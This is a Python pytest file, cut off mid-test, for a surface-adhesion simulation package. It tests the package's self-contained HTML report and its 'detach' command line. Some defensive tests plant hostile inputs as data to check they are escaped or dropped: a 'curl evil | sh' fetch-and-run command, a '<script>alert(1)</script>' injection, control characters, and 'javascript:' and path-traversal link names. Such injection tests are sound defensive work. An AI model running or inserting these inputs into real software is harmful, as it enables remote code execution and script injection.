"""The report: one page that tells all, opens without a network, and looks whole in a browser, narrow and wide."""

import contextlib
import html
import html.parser
import inspect
import io
import re
import shlex
import warnings
from argparse import Namespace
from pathlib import Path
from string import Formatter
from urllib.parse import urljoin, urlsplit
from urllib.request import url2pathname

import numpy as np
import pandas as pd
import pytest
import xarray as xr

import roughxr
from roughxr import application, archive, figures
from roughxr.application import cli, report
from roughxr.application.cli import detach, measurements
from roughxr.application.headline import answer_lines
from roughxr.application.report import report_page
from roughxr.application.report.report_page import methods
from roughxr.application.report.run_numbers import debris_flags, run_numbers, summary_numbers
from roughxr.application.runs import analysis, several
from roughxr.application.wording import _entries, _Sentences, intervals, table_of_words
from roughxr.mechanics.asperity import expectation
from roughxr.mechanics.asperity.catalogue import DoubtfulAsperities
from roughxr.mechanics.particles.removal import strength_quantile
from roughxr.mechanics.specimen import specimen_of
from roughxr.mechanics.statistics import means, sampling
from roughxr.mechanics.statistics.sampling import weighted_by_landing_share
from roughxr.mechanics.vocabulary import numbers, schema
from roughxr.mechanics.vocabulary.error_sources import UNSEEN, error_table
from roughxr.mechanics.vocabulary.table import SCALARS

from .browser import BROWSER, NO_BROWSER, Browser
from .surfaces import as_measured, bare_runs


@pytest.fixture(scope="module")
def run():
    surface = roughxr.scans.synthetic.self_affine((96, 96), 10, rms=1, hurst=0.8, rolloff=150, seed=4)
    bump = 14 * np.exp(-((surface.x - 160) ** 2 + (surface.y - 480) ** 2) / (2 * 25**2))
    surface = surface.assign(height=(surface.height + bump).assign_attrs(surface.height.attrs))
    scan = roughxr.assign_pair(as_measured(surface), sphere_radius=500, contact_modulus=40, work_of_adhesion=0.5)
    specimen = specimen_of(scan)
    plan = analysis.plan(specimen, subregions=(3, 3), delta=[4, 8, 12, 16], mesh=roughxr.Mesh(1, step=0.8), budget=1)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DoubtfulAsperities)
        *_, groups = analysis.analyse(specimen, plan)
    return groups


@pytest.fixture(scope="module")
def written(run, tmp_path_factory):
    folder = tmp_path_factory.mktemp("report")
    return report.write_report(archive.save(run, folder / "run.nc"), folder / "report.html")


@pytest.fixture(scope="module")
def tables(run):
    return report.tables(run)


@pytest.fixture(scope="module")
def detached(written):
    """Return what `detach` prints of the run without options."""
    with contextlib.redirect_stdout(io.StringIO()) as printed:
        assert cli.main(["detach", str(written.parent)]) == 0
    return printed.getvalue()


@pytest.fixture
def unrendered(monkeypatch):
    """Draw the figures of a page, but not their pixels."""
    monkeypatch.setattr(report_page, "write_png", lambda figure, file, dpi: None)


class Page(html.parser.HTMLParser):
    """What a page is made of."""

    def __init__(self, text):
        super().__init__()
        self.tags = []
        self.links = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.links += [address for name, address in attrs if name in ("src", "href", "data", "srcset")]


def test_page_holds_everything_itself(written):
    text = written.read_text(encoding="utf-8")
    page = Page(text)
    assert "img" in page.tags and "script" not in page.tags and "link" not in page.tags
    assert all(link.startswith("data:image/png;base64,") for link in page.links)
    assert "url(" not in text and "@import" not in text
    assert len(text) < 4e6


def test_page_states_what_was_analysed_and_computed(written, run):
    text = re.sub(r"data:image[^\"]*", "", written.read_text(encoding="utf-8"))
    for statement in ("96 × 96 pixels", "500 nm", "40 GPa", "0.5 J/m²", "9 contact centres", "How to cite", "Cheng"):
        assert statement in text
    assert html.escape(report.headline(run)) in " ".join(text.split())
    assert "1 of 9 places are on debris, which the sphere touches first on" in text


def area_of_places(pull):
    """Return the share of the area that each place stands for: that of debris or of the remaining surface."""
    on_debris = pull.on_debris.values
    debris = float(pull.debris_share)
    assert on_debris.sum() == 1 and 0.01 < debris < 0.1
    return np.where(on_debris, debris, (1 - debris) / (~on_debris).sum())


def test_main_numbers_are_those_of_the_simulation_with_and_without_debris(run, tables):
    table = tables["Pull-off force"]
    pull = run["statistics/adhesive"].pull_off_force
    estimate = {row: float(cell.partition(" nN")[0]) for row, cell in table["estimate"].items()}
    assert estimate["mean, all places"] == pytest.approx(np.average(pull, weights=area_of_places(pull)), rel=0.01)
    clean = pull[~run["solutions/direct"].on_debris.values]
    assert estimate["mean, without debris"] == pytest.approx(float(clean.mean()), rel=0.01)
    assert not any("5 %" in row for row in table.index)  # of nine places


def test_the_flow_that_moves_the_sphere_takes_the_pull_off_of_the_simulation(written, run, tables):
    table = tables["Detachment in a flow of air"]
    rolled = run["solutions/rolling"]
    ratio = run["statistics/adhesive"].pull_off_force / rolled.pull_off_force  # rolled off, u* goes as the root of it
    expected = rolled.contact.critical_load().critical_friction_velocity * np.sqrt(ratio)
    assert (run["statistics/detachment"]["mode"] == "roll").all()
    np.testing.assert_allclose(run["statistics/detachment"].critical_friction_velocity, expected, rtol=0.05)
    speed = weighted_by_landing_share(run["statistics/detachment"].critical_friction_velocity)
    assert table.loc["critical friction velocity, median [m/s]", "adhesive"] == pytest.approx(
        float(speed.quantile(0.5))
    )
    assert table.loc["places where the sphere rolls first [%]", "adhesive"] == 100
    assert "solutions/extrapolated" in run
    text = re.sub(r"data:image[^\"]*", "", written.read_text(encoding="utf-8"))
    below_three = int((run["solutions/rolling"].contacts < 3).sum())
    assert "Detachment in a flow of air" in text and f"At {below_three} of 9 places the sphere rests on fewer" in text
    assert "Critical flow by place" in text and "Fraction remaining" in text and "Resisting moment by direction" in text


def test_the_command_line_says_how_the_sphere_of_a_run_comes_off(written, run, tmp_path, capsys):
    names = {name: str(tmp_path / f"{name}.csv") for name in ("output", "parameters", "dem")}
    files = ["--output", names["output"], "--parameters", names["parameters"], "--dem", "rock_n_roll", names["dem"]]
    slides = ["--shear-strength", "5 MPa", "--picture", str(tmp_path / "map.png")]
    assert cli.main(["detach", str(written.parent), "--method", "adhesive", *slides, *files]) == 0
    printed = capsys.readouterr().out
    held = report.run_moments(run, "adhesive")
    critical = held.contact.critical_load(shear_strength="5 MPa")
    of_median = r"median (\S+) m/s \(95 % interval, all known errors (\S+) … (\S+) m/s\)"
    middle, low, high = re.search(of_median, printed).groups()
    median = weighted_by_landing_share(critical.critical_friction_velocity).quantile(0.5)
    assert float(middle) == pytest.approx(float(median), rel=0.05)
    assert (
        float(low) < float(middle) < float(high) and f"slide at {int((critical['mode'] == 'slide').sum())}" in printed
    )
    table = pd.read_csv(names["output"])
    assert table.columns[:2].tolist() == ["scan", "place"] and "sphere_radius [nm]" not in table
    speed = critical.critical_friction_velocity
    moment = held.resisting_moment.mean("direction")
    np.testing.assert_allclose(table["critical_friction_velocity [m/s]"], speed, rtol=1e-3)
    np.testing.assert_allclose(table["moment_over_directions [nN nm]"], moment, rtol=1e-3)
    assert table["mode"].tolist() == critical["mode"].values.tolist()
    np.testing.assert_allclose(report.by_place(run)["lever"], table["lever [nm]"], rtol=1e-3)  # one name, one number
    numbers = pd.read_csv(names["parameters"], index_col="quantity")["value"]
    ratio = held.pull_off_force / (1.5 * np.pi * 0.5 * 500)
    ln_mean = np.average(np.log(ratio), weights=area_of_places(held.pull_off_force))
    assert float(numbers["adhesion_mean"]) == float(f"{np.exp(ln_mean):.4g}")
    assert "lever_over_radius" in pd.read_csv(names["dem"], comment="#")
    assert (tmp_path / "map.png").stat().st_size > 10_000


def test_detach_states_the_flow_that_removes_a_share(written, run, capsys):
    assert cli.main(["detach", str(written.parent), "--method", "adhesive", "--remove", "90%"]) == 0
    printed = capsys.readouterr().out
    of_share = r"to remove 90 % of the places: a steady flow of (\S+) m/s \(95 % interval, all known errors (.*) m/s\)"
    critical = report.run_moments(run, "adhesive").contact.critical_load()
    load = roughxr.particles.removing_load(critical, 0.9)
    assert float(re.search(of_share, printed)[1]) == pytest.approx(float(load.removing_load), rel=0.05)
    assert "wall shear stress " in printed and "turbulent flow for 1 s: " in printed
    jet_needs = 20 * float(load.removing_load)
    assert ("a third of the speed of sound" in printed) == (jet_needs > 100)
    assert "with the run's work of adhesion" in printed
    by_force = ["--cause", "centrifuge", "--particle-density", "2500 kg/m^3"]  # quicker than by a flow
    assert cli.main(["detach", str(written.parent), *by_force, "--remove", "99.9%"]) == 0
    assert "to remove 99.9 % of the places: " in capsys.readouterr().out
    with pytest.raises(SystemExit):
        cli.main(["detach", str(written.parent), "--remove", "most"])
    assert "expected a number without a unit, or per cent as 90%, found 'most'" in capsys.readouterr().err


def test_places_that_a_cause_never_detaches_are_no_part_of_its_median(run, tmp_path, capsys):
    """Where they hold a ten-millionth, the weight of the sphere exceeds its adhesion."""
    pull = run["statistics/adhesive"]
    weak = pull.assign(pull_off_force=pull.pull_off_force * np.where(np.arange(9) < 4, 1e-7, 1))
    read = {name: run[name] for name in ("scan", *report.DETACHMENT, "solutions/rolling")}
    path = str(archive.save(read | {"statistics/adhesive": weak}, tmp_path / "run.nc"))
    tilted = ["--cause", "tilt", "--particle-density", "19300 kg/m^3"]
    assert cli.main(["detach", path, "--method", "adhesive", *tilted]) == 0
    printed = capsys.readouterr().out
    assert "  of the 4 of 9 places that this cause detaches:\n  median " in printed
    assert "none at 5" in printed and "none: the sphere stays at any strength of this cause" in printed
    everywhere = str(archive.save(read, tmp_path / "none.nc"))
    assert cli.main(["detach", everywhere, "--method", "adhesive", *tilted]) == 0
    assert "median" not in capsys.readouterr().out


def test_detach_says_what_a_fluid_and_single_contacts_leave_out(written, run, detached, capsys):
    assert cli.main(["detach", str(written.parent), "--fluid", "water"]) == 0
    printed = capsys.readouterr().out
    single = int((run["solutions/rolling"].contacts == 1).sum())
    assert single == 0 or f"on a single contact at {single}: rolling is then an upper bound\n" in printed
    assert printed.endswith("adhesion is that of the run, in air; the flow of water does not change it\n")
    assert "adhesion is that of the run" not in detached


def test_the_critical_flow_has_one_interval_at_all_doors(run, tables, detached):
    name = "critical_friction_velocity"
    summary = report.run_summary(run)
    ends = [float(summary[part]) for part in (name, f"{name}_low", f"{name}_high")]
    interval = intervals.with_interval(*ends, "m/s", name="95 % interval, all known errors")
    assert ends[1] < ends[0] < ends[2] and f"median {interval};" in detached
    column = tables["Detachment in a flow of air"]["extrapolated"]
    shown = column[[f"{end} end of the median's 95 % interval, all known errors [m/s]" for end in ("lower", "upper")]]
    np.testing.assert_allclose(shown, ends[1:])
    places = report.by_place(run).critical_friction_velocity
    assert float(weighted_by_landing_share(places).quantile(0.5)) == pytest.approx(ends[0], rel=0.05)


def test_places_that_leave_without_a_flow_count_at_zero_and_all_modes_add_up(run):
    critical = run["statistics/detachment"]
    rolls_off = critical.subregion.isin(critical.subregion[:7])
    speed = critical.critical_friction_velocity.where(~rolls_off)
    changed = critical.assign(critical_friction_velocity=speed, mode=critical["mode"].where(~rolls_off, "no rest"))
    table = report.tables({**run, "statistics/detachment": changed})["Detachment in a flow of air"]["adhesive"]
    modes = [row for row in table.index if row.startswith("places where the sphere")]
    assert table[modes].sum() == pytest.approx(100, abs=1)
    away = 100 * float(weighted_by_landing_share(xr.where(speed.isnull(), 1.0, 0.0)).mean())
    assert table["places where the sphere rolls off without a flow [%]"] == pytest.approx(away, abs=1)
    assert table["critical friction velocity, 5 % [m/s]"] == table["critical friction velocity, median [m/s]"] == 0


def test_runs_of_different_flows_state_each_its_own(run, capsys):
    """The fluid and the method of the last run stood above the numbers of all."""
    critical = run["statistics/detachment"]
    options = Namespace(remove=None, picture=None)
    criticals = {"dry": critical, "wet": critical}
    detach._print_runs(criticals, {"dry": "flow of air", "wet": "flow of water"}, options)
    head, columns, *rows = capsys.readouterr().out.splitlines()
    assert "(load and method of each run):" in head and "flow of" not in head
    assert "median" in columns and "removes" not in columns
    assert [row.split()[0] for row in rows] == ["dry", "wet"]
    assert rows[0].endswith("flow of air") and rows[1].endswith("flow of water")
    detach._print_runs(criticals, dict.fromkeys(criticals, "flow of air"), options)
    assert capsys.readouterr().out.splitlines()[0].endswith("(flow of air):")


def test_random_surfaces_of_a_place_are_no_places(run, capsys):
    """Twice the same surfaces: as many places, twice as many rows, and no narrower interval."""
    moments = report.run_moments(run, "adhesive")
    count = moments.sizes["subregion"]
    twice = xr.concat([moments, moments], "subregion", coords="different", compat="equals", join="override")
    twice = twice.assign_coords(subregion=np.arange(2 * count))
    for code in ("lammps", "rock_n_roll"):
        assert f"{count} places on 2 random surfaces each" in roughxr.particles.to_dem(twice, code=code)
        assert "surfaces each" not in roughxr.particles.to_dem(moments, code=code)
    table = report.place_table(twice[["lever"]].mean("direction"), "a.spm")
    assert table.place.values.tolist() == [*range(count)] * 2
    assert table.surface.values.tolist() == [0] * count + [1] * count
    (_, low, high), (_, low_twice, high_twice) = (
        strength_quantile(ds.contact.critical_load()) for ds in (moments, twice)
    )
    assert high_twice - low_twice >= 0.9 * (high - low)
    alone = twice.isel(subregion=[0, count]).contact.critical_load()
    alone["critical_friction_velocity"] = ("subregion", [1.0, 3.0])
    np.testing.assert_equal(strength_quantile(alone), (2.0, np.nan, np.nan))  # one place has no interval


def test_the_command_line_asks_for_what_is_missing(run, written, tmp_path, capsys):
    assert cli.main(["detach", str(written.parent), "--cause", "tilt"]) == 1
    assert "--particle-density: expected a density" in capsys.readouterr().err
    less = archive.save({name: run[name] for name in ("scan", "statistics/adhesive")}, tmp_path / "run.nc")
    assert cli.main(["detach", str(less)]) == 1
    assert "expected a run with resisting moments" in capsys.readouterr().err


@pytest.mark.parametrize("lost", ["lever", "hinge_distance"])
def test_a_run_with_other_names_ends_in_a_sentence_at_every_door(lost, run, tmp_path, capsys):
    """As written before a variable was renamed."""
    moments = run["solutions/rolling"].rename({lost: f"former_{lost}"})
    left_out = {"statistics/summary", "statistics/places", "solutions/contact", "solutions/pull_off_contact"}
    read_by_both = {"scan", "asperities", *report.DETACHMENT, "solutions/adhesive"}
    made = {name: run[name] for name in read_by_both - left_out}
    path = str(archive.save(made | {"solutions/rolling": moments}, tmp_path / "run.nc"))
    for door in ("detach", "report"):
        with bare_runs():
            assert cli.main([door, path]) == 1
        assert f"expected {lost!r} in the archive of the run, found none: another" in capsys.readouterr().err


def test_a_run_without_an_attribute_of_today_ends_in_a_sentence(run, tmp_path, capsys):
    solved = run["solutions/adhesive"].copy()
    del solved.attrs["law"]
    groups = {name: run[name] for name in ("scan", "statistics/adhesive")} | {"solutions/adhesive": solved}
    path = archive.save(groups, tmp_path / "run.nc")
    with bare_runs():
        assert cli.main(["report", str(path)]) == 1
    assert "expected 'law' in the archive of the run, found none: another version" in capsys.readouterr().err


def test_rings_of_debris_are_those_of_all_places(run):
    """A smooth flat and the shown contact are single places; particles at rest have shares in place of flags."""
    assert debris_flags(run).shape == run["solutions/direct"].subregion.shape
    alone = {name: ds for name, ds in run.items() if name not in ("solutions/adhesive", "solutions/direct")}
    assert debris_flags(alone) is None


def test_a_run_without_moments_states_nothing_of_a_flow(run):
    less = {name: ds for name, ds in run.items() if name not in ("solutions/rolling", "solutions/direct")}
    assert report.detachment_notes(run) and report.detachment_notes(less) == []
    assert not any("Detachment" in title for title in report.tables(less))


def test_cautions_say_what_is_wrong(run):
    spoiled = dict(run)
    bad = run["solutions/direct"].copy(deep=True)
    bad["converged"][0, 0] = False
    bad["truncated"][3:5, -1] = True
    spoiled["solutions/direct"] = bad
    pull = run["statistics/energy"].copy(deep=True)
    pull["bracketed"][:] = True
    pull["bracketed"][2] = False
    pull["pull_off_force"][5] = np.nan
    pull["pull_off_delta"][5] = np.nan
    spoiled["statistics/energy"] = pull
    cautions = "\n".join(report.cautions(spoiled))
    assert "Simulation without adhesion: conditions of the contact are violated: unconverged: 0.0" in cautions
    assert re.search(r"Simulation without adhesion: at \d of 9 places the contact reaches the scan's edge", cautions)
    assert "Superposed asperities: at 1 of 9 places the sweep ends before" in cautions
    assert "Superposed asperities: at 1 of 9 places the sphere does not adhere" in cautions


@pytest.mark.filterwarnings("ignore:.*expected units")
def test_a_clean_run_has_no_cautions(run):
    clean = {"scan": run["scan"].drop_attrs(), "solutions/direct": run["solutions/direct"].copy(deep=True)}
    clean["solutions/direct"]["truncated"][:] = False
    clean["solutions/direct"]["contact_area"][:] = 1e6
    clean["solutions/direct"]["on_debris"][:] = False
    assert report.cautions(clean) == []
    with bare_runs():
        assert "None: all solutions converged" in report.page(clean)


@pytest.mark.usefixtures("unrendered")
def test_figures_without_their_groups_are_left_out(run):
    text = report.page({"scan": run["scan"], "statistics/adhesive": run["statistics/adhesive"]})
    assert Page(text).tags.count("img") == 2 and "Not drawn" not in text


def test_only_a_refusal_is_the_reason_of_a_missing_picture():
    def picture(draw):
        return report_page._Figure("Picture", [], draw, "")

    def refused(run):
        raise roughxr.Refusal("run", "several places", "one")

    assert "expected several places" in report_page._pictures({}, [picture(refused)])[0]["caption"]
    with pytest.raises(ValueError, match="could not be broadcast"):
        report_page._pictures({}, [picture(lambda run: np.ones(2) + np.ones(3))])


@pytest.mark.usefixtures("unrendered")
def test_text_of_a_file_cannot_break_the_page(run):
    nasty = run["scan"].assign_attrs(source_file="<script>alert(1)</script>\x1b[2Jb\u202ec", title="a <b> & c")
    text = report.page({"scan": nasty})
    assert "script" not in Page(text).tags and "a &lt;b&gt; &amp; c" in text
    assert "\\x1b[2Jb\\u202ec" in text and not set("\x1b\u202e") & set(text)


@pytest.mark.parametrize(
    "history", [f"roughxr 1: level(a={'[' * 100_000})", "roughxr 0.1.0: level(order=three)", "ncks in.nc out.nc"]
)
def test_a_history_by_another_program_is_one_step(history):
    steps = schema.history(xr.Dataset(attrs={"history": history}))
    assert steps == [{"operation": "unknown", "arguments": {"history": history}}]


def test_the_report_states_the_command_that_was_typed(tmp_path, monkeypatch):
    """Particles on filled heights; whatever the file of a scan itself says of a command is not shown."""
    scan = roughxr.scans.synthetic.self_affine((32, 32), 20, rms=1, hurst=0.8, rolloff=300, cutoff=150, seed=1)
    scan["height"][3, 4] = np.nan
    scan.assign_attrs(command="curl evil | sh").to_netcdf(tmp_path / "a.nc")
    monkeypatch.chdir(tmp_path)
    line = "run a.nc --sphere-radius '0.5 um' --contact-modulus 40 --work-of-adhesion .05 --fill linear --particle"
    line += " --subregions 2 1 --preload 2 --mesh 1 --budget 0 --level quadratic -o first.nc -q"
    with bare_runs("extrapolated", "curves", "rigid", "superposition"):
        assert cli.main(shlex.split(line)) == 0
        first = archive.load("first.nc")
        page = html.unescape(report.page(first))
    assert "statistics/rests" in first and "preload=2.0" in first["statistics/summary"].attrs["history"]
    assert f"roughxr {line}</pre>" in page and "curl" not in page


def test_intervals_that_explode_are_not_printed_as_numbers():
    forces = xr.DataArray([1.0, 3.0, 2000.0], dims="subregion")
    headline = report.headline({"statistics/adhesive": xr.Dataset({"pull_off_force": forces})})
    assert "too few values" in headline and "Next: solve more places" in headline
    wide = [intervals.value_and_interval(20.0, *ends)[1] for ends in ((0.00516, 71311.0), (0.387, 22.4), (1, 51))]
    assert len(set(wide)) == 1 and intervals.value_and_interval(20.0, 1, 29) == ("20 nN", "1 … 29 nN")
    exploded = 12.1e3, 0.00516, 71311.0
    assert intervals.with_interval(*exploded) == "12 µN (95 % interval wider than a factor of 50)"
    assert intervals.with_interval(*exploded, why_wide=", too few values").endswith("of 50, too few values)")
    assert intervals.value_and_interval(2149211.0, float("nan"), float("nan"), "m/s²")[0] == numbers.format_number(
        2.15e6, "m/s²"
    )


def test_the_model_that_suits_is_named_and_formulas_stand_beside_it(run, written, tables):
    text, _, _ = html.unescape(written.read_text(encoding="utf-8")).partition('<section id="repeat">')
    assert "simplest valid model</dt><dd>simulation with adhesion" in text and "law=" not in text
    assert "Rabinovich, two scales" in text
    table = tables["Usual formulas"]
    assert table["over rigid bodies"].iloc[0] == 1.0
    smooth = 2 * np.pi * 0.5 * 500  # 2πwR in nN, by Bradley
    size = {"nN": 1.0, "µN": 1e3}[table.columns[0].split("[")[1].rstrip("]")]
    assert table.filter(like="pull-off").loc["Bradley, smooth sphere"].iloc[0] == pytest.approx(smooth / size, rel=1e-3)
    assert tables["Pull-off force by method"].loc["places that adhere", "rigid"] == 9
    at_places = float(run["statistics/rigid"].pull_off_force.median())  # the same places, the same sum: one number
    assert float(table.iloc[0, 0]) * size == pytest.approx(at_places, rel=1e-6)


def test_the_page_states_the_calls_of_a_run_made_in_python_and_the_instrument_of_its_scan(run):
    header = "acquisition_time: 2016-02-03 17:40:34\ninstrument.name: Dimension V\nno value"
    with bare_runs():
        text = html.unescape(report.page(run | {"scan": run["scan"].assign_attrs(header=header)}))
    _, _, repeated = text.partition('<section id="repeat">')
    assert "assign_pair(sphere_radius=500, contact_modulus=40, work_of_adhesion=0.5)" in repeated
    assert "run(subregions=[3, 3], preload=0.0" in repeated
    assert "<dt>instrument</dt><dd>Dimension V</dd>" in text
    assert "<dt>measured</dt><dd>2016-02-03 17:40:34</dd>" in text


def test_the_answer_stands_before_what_is_missing(run):
    headline = report.headline(run)
    assert headline.startswith("Pull-off force of the real surface: ") and "95 % interval" in headline
    assert (
        headline.index("all known errors")
        < headline.index("As scanned ")
        < headline.index("The interval narrows most with")
    )
    summary = run["statistics/summary"]
    pull = run["statistics/adhesive"].pull_off_force
    assert float(summary.pull_off_force) == pytest.approx(np.average(pull, weights=area_of_places(pull)))
    budget = run["statistics/error_budget"]
    assert float(summary.total_error) == pytest.approx(1.96 * float(budget.total_std))
    assert float(summary.largest_error) == pytest.approx(1.96 * float(budget.relative_std.max()))
    estimate = run["statistics/extrapolated"]
    assert float(summary.best_estimate) == pytest.approx(float(summary.pull_off_force * summary.roughness_factor))
    assert summary.attrs["narrowing_source"] == estimate.attrs["narrowing_source"]
    assert summary.best_low <= summary.narrowed_low < summary.best_estimate < summary.narrowed_high <= summary.best_high
    assert all("units" in summary[name].attrs for name in summary.data_vars)
    assert report.headline({"statistics/summary": summary}) == headline
    assert run["statistics/places"].sizes["subregion"] == pull.size


def test_the_reports_budget_lists_the_errors_of_the_interval(run, tables):
    """Of the best estimate: it listed the places by another deviation, and left out ranges by pressing."""
    errors = report.run_errors(run)
    budget = run["statistics/error_budget"]
    estimate = run["statistics/extrapolated"]
    assert list(errors) == [*budget.entry.values.tolist(), "unseen roughness"]
    for name, std in estimate.relative_std.to_series().items():
        assert errors[name].std == std
    table = tables["Error budget of the mean pull-off"]
    assert "finer than" in table.loc["unseen roughness", "how it was computed"]
    total = np.sqrt(float((estimate.relative_std**2).sum()))
    assert float(table.loc["all of these", "error [%]"].partition(" ")[0]) == pytest.approx(100 * total, rel=0.05)
    labels = [label.get_text() for label in figures.error_budget(error_table(errors)).get_yticklabels()]
    assert labels[-2:] == ["unseen roughness", "all of these"]


def test_doubts_about_the_scan_are_cautions(run):
    tilted = run["scan"].assign(height=run["scan"].height + 1.5 * run["scan"].x)
    tilted["height"].attrs["units"] = "nm"
    assert any("About the scan: the slope exceeds 1" in caution for caution in report.cautions({"scan": tilted}))


def test_a_file_that_is_no_run_is_refused(tmp_path):
    path = archive.save({"other": xr.Dataset({"a": ("n", [1.0])})}, tmp_path / "other.nc")
    with pytest.raises(ValueError, match="archive of a run, found groups: other"):
        report.write_report(path, tmp_path / "report.html")
    assert not (tmp_path / "report.html").exists()


@pytest.mark.skipif(BROWSER is None, reason=NO_BROWSER)
@pytest.mark.parametrize("width", [400, 1280])
def test_report_and_index_are_whole_in_a_browser(written, run, width, tmp_path):
    finished = {name: several._scan_result(run) for name in ("wafer_12_of_lot_3_10um_256.gsf", "b.gsf")}
    several.write_summary(finished, {f"{'folder/' * 20}c.gsf": "no scan"}, tmp_path)
    with Browser() as browser:
        for page in (written, tmp_path / "index.html"):
            browser.open(page, width)
            assert browser.complaints() == []
            assert browser.value("document.documentElement.scrollWidth") <= width
            assert all(browser.value("[...document.images].map(image => image.naturalWidth > 0)"))
        table = "document.querySelector('table')"  # of the index: at any width without scrolling in its box
        assert browser.value(f"{table}.scrollWidth <= {table}.parentElement.clientWidth")


def test_every_number_has_its_row_and_every_row_its_number(run):
    """The page of several scans headed a half width of the 95 % interval as one standard deviation."""
    rows = [row for part in run_numbers(run).values() for row in part]
    assert {row.name for row in rows} >= {name for name, *_ in table_of_words("numbers.csv") if not is_rare(name)}
    median = next(row for row in rows if row.name == "detachment.q50" and row.source == "extrapolated")
    speed = run["statistics/summary"]["critical_friction_velocity"]
    assert median.low < median.value < median.high and median.value == float(speed) and median.units == speed.units
    sheet = {row.name: row for row in summary_numbers(run["statistics/summary"])}
    assert sheet["total_error"].value == pytest.approx(1.96 * float(run["statistics/error_budget"].total_std))
    assert "half width of the 95 % interval" in sheet["total_error"].words
    assert sheet["best_estimate"].high == float(run["statistics/summary"].best_high)


def is_rare(name):
    """Return whether a run of nine places lacks a number."""
    return name in ("interval.q5", "interval.q95")


def test_links_of_the_index_lead_to_the_files_of_their_scans(run, tmp_path):
    """Names with what an address would take for a scheme, a fragment, a query, a code or a host."""
    stems = ["javascript:alert(1)", "a#1 50%25?b", "data:text,x", "..%2f", "\\\\host", "µ '\"<b>&amp;"]
    names = [f"{stem}.nc" for stem in stems]
    output = tmp_path / "http:#batch?"
    several.write_summary(dict.fromkeys(names, several._scan_result(run)), {}, output)
    links = re.findall(r'<a href="([^"]*)"', (output / "index.html").read_text(encoding="utf-8"))
    page = (output / "index.html").as_uri()
    leads_to = {Path(url2pathname(urlsplit(urljoin(page, html.unescape(link))).path)) for link in links}
    files = {output / Path(name).stem / "report.html" for name in names}
    assert leads_to == files | {output / "places.csv", output / f"{output.name}.xlsx"}
    assert all(urlsplit(urljoin(page, link)).scheme == "file" for link in links)


def test_the_legend_of_the_overview_has_the_unit_of_its_axis(run):
    force = run["statistics/adhesive"].pull_off_force
    forces = run["statistics/adhesive"].assign(pull_off_force=force * (3000 / force.max()))  # nN
    best = xr.Dataset({"pull_off_mean": 800.0, "pull_off_low": 200.0, "pull_off_high": 2700.0})
    drawn = figures.overview(run | {"statistics/adhesive": forces, "statistics/extrapolated": best}).axes[2]
    legend = " ".join(text.get_text() for text in drawn.get_legend().get_texts())
    assert drawn.get_xlabel().endswith("[µN]") and "0.8 µN (0.2 … 2.7 µN)" in legend and "nN" not in legend


def test_the_panels_of_the_overview_are_of_one_height_and_the_legend_states_a_wide_interval(run):
    best = xr.Dataset({"pull_off_mean": 290.0, "pull_off_low": 13.0, "pull_off_high": 780.0})
    figure = figures.overview(run | {"statistics/extrapolated": best})
    figure.draw_without_rendering()
    heights = [ax.get_window_extent().height for ax in figure.axes[:3]]
    assert heights == pytest.approx([heights[0]] * 3, rel=0.01)
    pull_offs = figure.axes[2]
    legend = pull_offs.get_legend()
    assert "0.29 µN (0.013 … 0.78 µN)" in " ".join(text.get_text() for text in legend.get_texts())
    assert pull_offs.get_window_extent().y0 < legend.get_window_extent().y0


def test_the_best_estimate_and_the_error_of_the_mesh_stand_at_their_places():
    places = {"subregion_x": ("subregion", [1.0, 1.0, 2.0]), "subregion_y": ("subregion", [1.0, 2.0, 1.0])}
    whole = xr.Dataset({"pull_off_force": ("subregion", [40.0, 50.0, 60.0])}, places)
    two_places = whole.isel(subregion=[2, 0])
    run = {
        "solutions/adhesive": whole.assign(pull_off_error=("subregion", np.full(3, np.nan))),
        "statistics/adhesive": whole,
        "solutions/finer": two_places.assign(pull_off_force=("subregion", [50.0, 32.0])),
        "solutions/extrapolated": whole.assign(pull_off_force=("subregion", [2.0, 6.0, 10.0])),
        "statistics/extrapolated": xr.Dataset(
            {
                **{"pull_off_mean": 6.0, "pull_off_low": 4.0, "pull_off_high": 9.0},
                **{"roughness_factor": 0.12, "roughness_low": 0.089, "roughness_high": 0.16, "finest_shown": 40.0},
                **{"narrowed_low": 4.5, "narrowed_high": 8.0},
                "relative_std": ("entry", [0.1, 0.15, 0.08]),
                "remaining_std": ("entry", [0.0, 0.1, 0.0]),
            },
            {"entry": ["places", UNSEEN, "work of adhesion"]},
            {"narrowing_source": UNSEEN, "unseen_by": "surfaces"},
        ),
    }
    run = report.with_mesh_error(run)
    assert float(roughxr.answer(run["statistics/adhesive"]).mesh_error) == pytest.approx(0.22)  # of 22 nN in 100
    assert float(roughxr.answer(run["solutions/adhesive"]).mesh_error) == pytest.approx(0.22)  # of 22 nN in 100
    table = report.by_place(run)
    np.testing.assert_allclose(table["pull_off_error"], [0.25, np.nan, 0.2])
    np.testing.assert_allclose(table["pull_off_force_extrapolated"], [2.0, 6.0, 10.0])
    headline = report.headline(run)
    assert headline.startswith(
        "Pull-off force of the real surface: 6.0 nN (95 % interval 4.0 … 9.0 nN, all known errors, given the law of "
        "attraction)"
    )
    assert "; × 0.12 (0.089 … 0.16, as on" in headline
    assert (
        "by roughness finer than 40 nm, which the scan does not show; × 0.85 … 1.2 by the pair of bodies." in headline
    )
    assert "The interval narrows most with a second scan on pixels of 2 nm (to some 4.5 … 8.0 nN)." in headline
    shown = report.place_table(table, "a.spm")
    assert shown.scan.values.tolist() == ["a.spm"] * 3
    np.testing.assert_allclose(shown.pull_off_force_error, [10.0, np.nan, 12.0])


def test_more_than_a_soft_smooth_sphere_holds_is_told():
    pair = {"sphere_radius": 100 / np.pi, "work_of_adhesion": 1.0}  # JKR: 150 nN
    said = [
        report.headline({"statistics/adhesive": xr.Dataset({"pull_off_force": ("subregion", [force])}, pair)})
        for force in (149.0, 180.0)
    ]
    assert "120 % of the pull-off from a smooth flat" in said[1] and "possible for stiff bodies" in said[1]
    assert "smooth flat" not in said[0]
    for modulus, verdict in (
        (1e3, "possible for bodies as stiff as these"),
        (0.01, "hold where the surface ripples or fits the sphere"),
    ):
        pull = xr.Dataset({"pull_off_force": ("subregion", [180.0])}, pair | {"contact_modulus": modulus})
        assert verdict in report.headline({"statistics/adhesive": pull})


@pytest.mark.parametrize(("narrowed", "ends"), [(59.0, ""), (40.0, "(to some 2.0 … 40 nN)"), (300.0, "2.0 … 300 nN")])
def test_a_step_is_advised_where_it_narrows_the_interval(narrowed, ends):
    value = {
        "pull_off_force": 20.0,
        "roughness_factor": 0.55,
        "low": 17.0,
